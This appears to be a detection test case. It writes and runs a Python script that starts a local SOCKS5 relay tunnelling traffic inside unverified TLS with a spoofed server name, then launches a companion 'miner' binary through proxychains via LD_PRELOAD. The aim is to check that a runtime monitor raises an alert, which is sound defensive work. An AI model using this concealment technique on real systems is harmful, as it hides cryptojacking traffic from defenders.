# id: K07
# title: azurenql: an image whose Python launcher starts a preloaded miner through SOCKS and TLS
# expect: alert
# severity: high
# kinds: process, network, library, resource
# attck: T1090.003
# image: python
# launch: image
# phase: learning
# peers: tls:443
# companion: /usr/local/bin/dao
# timeout: 60
# within: 40

cat >/usr/local/bin/dao.py <<'END'
import os, socket, ssl, subprocess, threading

def relay(source, sink):
    while data := source.recv(4096):
        sink.sendall(data)

def anonymise(listener):
    """A SOCKS5 server that takes every stream to the one peer there is, inside TLS, as Tor does."""
    client, _ = listener.accept()
    client.recv(3)
    client.sendall(b"\x05\x00")
    client.recv(256)
    client.sendall(b"\x05\x00\x00\x01\x00\x00\x00\x00\x00\x00")
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    upstream = context.wrap_socket(socket.create_connection(("tls", 443)), server_hostname="www.klmnopqrst.net")
    threading.Thread(target=relay, args=(upstream, client), daemon=True).start()
    relay(client, upstream)

listener = socket.create_server(("127.0.0.1", 9050))
threading.Thread(target=anonymise, args=(listener,), daemon=True).start()
subprocess.run(["/usr/local/bin/dao"], env={**os.environ, "LD_PRELOAD": "/usr/lib/libproxychains.so.4"}, timeout=50)
END
python3 /usr/local/bin/dao.py
exit 0
